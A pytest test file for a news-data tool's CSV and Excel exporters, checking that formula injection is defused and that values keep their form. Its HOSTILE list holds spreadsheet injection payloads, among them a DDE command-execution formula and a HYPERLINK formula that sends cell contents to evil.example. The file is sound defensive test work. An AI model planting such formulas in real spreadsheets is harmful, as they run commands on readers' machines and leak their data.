"""CSV and Excel files that run nothing, whatever a headline says."""

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsetl.cli.app import app
from newsetl.core.writing_spreadsheets import (
    EXCEL_CELL_CHARACTERS,
    harmless,
    starts_like_a_formula,
    write_csv,
    write_excel,
)
from newsetl.errors import UserError

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\x0b=1",
]
HARMLESS = ["", "troops", "4,000", "a=b", "a-b", "it's", "'=1", "الجيش", "🙂"]


def written(path: Path, columns: list[str], rows: list[tuple[Any, ...]]) -> Any:
    write_excel(columns, rows, path)
    return openpyxl.load_workbook(path).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_like_a_formula_is_defused_in_csv(text: str) -> None:
    """An apostrophe in front makes it text; nothing else of it changes."""
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("value", [*HARMLESS, -5, -0.5, None, True, date(2018, 2, 5)])
def test_everything_else_stays_as_it_is_in_csv(value: object) -> None:
    """Numbers keep their sign, and text that starts otherwise is not touched."""
    assert harmless(value) is value


@given(st.text())
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    """For any text at all."""
    assert not starts_like_a_formula(str(harmless(text)))


def test_csv_reads_back_as_it_was_written() -> None:
    """Quotes, commas, line ends and other scripts survive; times are ISO 8601 in UTC; null is empty."""
    rows = [('say "so", then', "two\nlines", "الجيش", None, datetime(2018, 2, 5, 6, 30, tzinfo=UTC), -1.5)]
    file = io.StringIO(newline="")
    write_csv(["a", "b", "c", "d", "e", "=f"], rows, file)
    assert list(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [
        ["a", "b", "c", "d", "e", "'=f"],
        ['say "so", then', "two\nlines", "الجيش", "", "2018-02-05T06:30:00Z", "-1.5"],
    ]


@pytest.mark.parametrize(
    "text", [*HOSTILE, *HARMLESS[1:], "http://outlet.example/a", "007", "_x000D_", "1e5"]
)
def test_excel_holds_text_as_text(tmp_path: Path, text: str) -> None:
    """Every string is a string cell with the same characters: no formula, no link, no number."""
    cell = written(tmp_path / "a.xlsx", ["text"], [(text,)])["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    # openpyxl leaves the form in which control characters are stored; Excel turns it back
    plain = openpyxl.utils.escape.unescape(cell.value)
    assert plain == text.replace("\r", "\n") or plain == text
    assert cell.quotePrefix == starts_like_a_formula(text)


def test_excel_keeps_numbers_days_and_times(tmp_path: Path) -> None:
    """Numbers add up, days and times are Excel's own, in UTC as the header says, and null is an empty cell."""
    moment = datetime.fromisoformat("2018-02-05T08:30:00+02:00")
    rows = [(4000, -0.5, True, date(2018, 2, 5), moment, None)]
    sheet = written(tmp_path / "a.xlsx", ["n", "x", "b", "day", "at", "nothing"], rows)
    assert [cell.value for cell in sheet[1]] == ["n", "x", "b", "day", "at (UTC)", "nothing"]
    values = [cell.value for cell in sheet[2]]
    assert values[:3] == [4000, -0.5, True]
    assert values[3:] == [datetime(2018, 2, 5), datetime(2018, 2, 5, 6, 30), None]  # noqa: DTZ001
    assert sheet["D2"].is_date
    assert sheet["D2"].number_format == "yyyy-mm-dd"


def test_excel_shows_whole_days_and_grouped_amounts(tmp_path: Path) -> None:
    """Excel's own width shows a day as #####; amounts are floats, whole numbers may be years or codes."""
    rows = [(date(2018, 2, 5), 216_100.0, 13.9, 2018, "x" * 200)]
    sheet = written(tmp_path / "a.xlsx", ["day", "high", "share", "year", "quote"], rows)
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDE"]
    assert widths[0] >= len("2018-02-05") + 1
    assert widths[2] >= len("share")
    assert max(widths) == widths[4] <= 61
    assert [cell.number_format for cell in sheet[2]][1:] == ["#,##0", "General", "General", "General"]
    assert sheet.freeze_panes == "A2"


def test_excel_writes_a_column_in_one_way(tmp_path: Path) -> None:
    """Whole numbers among averages are not grouped; a fraction far below amounts keeps its digits."""
    rows = [(1200.5, 3000.0), (4000.0, None), *[(1.5, 2.0)] * 500, (4000.0, 0.5)]
    sheet = written(tmp_path / "a.xlsx", ["mean", "high"], rows)
    assert {cell.number_format for cell in sheet["A"][1:]} == {"General"}
    assert [sheet["B2"].number_format, sheet["B504"].number_format] == ["#,##0", "General"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (2**60, str(2**60)),
        (float("nan"), "nan"),
        (float("inf"), "inf"),
        (date(1893, 5, 1), "1893-05-01"),
        (datetime(1893, 5, 1, tzinfo=UTC), "1893-05-01T00:00:00Z"),
    ],
)
def test_what_excel_cannot_count_is_text(tmp_path: Path, value: object, shown: str) -> None:
    """A number beyond a double's whole numbers, or a day before Excel's, is shown exactly rather than wrongly."""
    assert written(tmp_path / "a.xlsx", ["v"], [(value,)])["A2"].value == shown


@pytest.mark.parametrize("character", ["x", "🙂"])
def test_a_text_too_long_for_a_cell_is_cut_and_says_so(tmp_path: Path, character: str) -> None:
    """An article's text may be longer than Excel's 32,767 characters a cell."""
    value = written(tmp_path / "a.xlsx", ["text"], [(character * 40_000,)])["A2"].value
    assert value.endswith("[…]")
    assert len(value.encode("utf-16-le")) // 2 <= EXCEL_CELL_CHARACTERS


def test_no_row_still_gives_a_workbook_with_its_header(tmp_path: Path) -> None:
    """An empty answer is an answer."""
    sheet = written(tmp_path / "a.xlsx", ["a", "b"], [])
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["a", "b"]]


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is cut off silently, and no half file is left."""
    monkeypatch.setattr("newsetl.core.writing_spreadsheets.EXCEL_ROWS", 3)
    with pytest.raises(UserError, match="add a LIMIT"):
        write_excel(["a"], [(1,), (2,), (3,)], tmp_path / "a.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there_is_reported(tmp_path: Path) -> None:
    """One line, no traceback."""
    with pytest.raises(UserError, match="no folder"):
        write_excel(["a"], [], tmp_path / "none" / "a.xlsx")


def test_the_command_writes_a_workbook(sample_data_dir: Path, tmp_path: Path) -> None:
    """`newsetl query QUESTION --excel FILE` says how many rows it wrote, and only one form is given at a time."""
    from typer.testing import CliRunner

    file = tmp_path / "refused.xlsx"
    arguments = ["query", "what_was_refused", "--data-dir", str(sample_data_dir), "--excel", str(file)]
    result = CliRunner().invoke(app, arguments, catch_exceptions=False)
    assert result.stdout == f"3 rows in {file}\n"
    assert openpyxl.load_workbook(file).active.max_row == 4
    with pytest.raises(UserError, match="one of --csv, --json, --excel"):
        CliRunner().invoke(app, [*arguments, "--csv"], catch_exceptions=False)
